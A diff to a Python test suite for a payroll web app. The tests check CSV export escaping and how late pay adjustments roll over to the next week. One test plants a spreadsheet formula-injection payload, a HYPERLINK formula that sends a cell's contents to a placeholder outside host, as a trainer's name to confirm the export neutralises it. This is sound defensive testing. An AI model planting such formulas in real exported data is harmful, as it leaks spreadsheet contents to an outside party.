@@ -212,17 +212,38 @@ def test_both_pay_pages_name_an_unapproved_week_alike(client, session):
 
 
 def test_the_payroll_csv_makes_formula_text_plain_text_whatever_the_column_type(client, session):
-    """A trainer's name, a project's slug or an adjustment's reason starting with = or @ reaches the
-    payroll CSV, which people open in a spreadsheet: every such text cell starts with an apostrophe
-    (pandas types text columns as ``str`` since version 3, not ``object``)."""
-    admin, trainer, project = _setup(session)
+    """A trainer's name (or e-mail, or a project's slug) starting with = or @ reaches the payroll CSV,
+    which people open in a spreadsheet: every such text cell starts with an apostrophe (pandas types
+    text columns as ``str`` since version 3, not ``object``)."""
+    _admin, trainer, project = _setup(session)
     trainer.name = '=HYPERLINK("https://x.example/?"&A1,"pay")'
     session.commit()
     _work(session, trainer, project, 600)
-    pay.adjust(session, trainer.id, project.id, "1.00", "@SUM(1+1) bonus", admin.id)
+    admin = make_user(session, "admin")
     login(client, admin.email, PASSWORD)
     week = pay.week_label(pay.week_of(utcnow()))
     rows = list(csv.DictReader(io.StringIO(client.get(f"/admin/payroll.csv?week={week}").get_data(as_text=True))))
     assert rows[0]["trainer_name"] == "'" + trainer.name
     assert all(not str(v).startswith(("=", "+", "@")) for row in rows for v in row.values())
     assert rows[0]["amount"] == "6.00"  # numbers stay numbers
+
+
+def test_an_adjustment_after_the_week_was_approved_is_said_and_shown_where_it_went(client, session):
+    """This week approved already: the money goes to the next week, and the message and the page it lands
+    on name that week, where the adjustment is."""
+    admin, trainer, project = _setup(session)
+    _work(session, trainer, project, 600)
+    login(client, admin.email, PASSWORD)
+    now_week = pay.week_of(utcnow())
+    token = csrf_token(client, "/admin/payroll")
+    client.post("/admin/payroll/approve", data={"csrf_token": token, "week": pay.week_label(now_week),
+                                                "line": f"{trainer.id}:{project.id}"})
+    added = client.post("/admin/payroll/adjust", data={"csrf_token": token, "trainer": trainer.id,
+                                                       "adjust_project": project.id, "amount": "3.00",
+                                                       "reason": "Late bonus", "kind": "bonus"})
+    next_week = pay.week_label(now_week + timedelta(days=7))
+    assert added.status_code == 303 and f"week={next_week}" in added.headers["Location"]
+    page = client.get(added.headers["Location"]).get_data(as_text=True)
+    assert f"Adjustment added to {next_week}" in page and "3.00" in page
+    session.rollback()
+    assert session.scalar(select(PayAdjustment.week_start)) == now_week + timedelta(days=7)
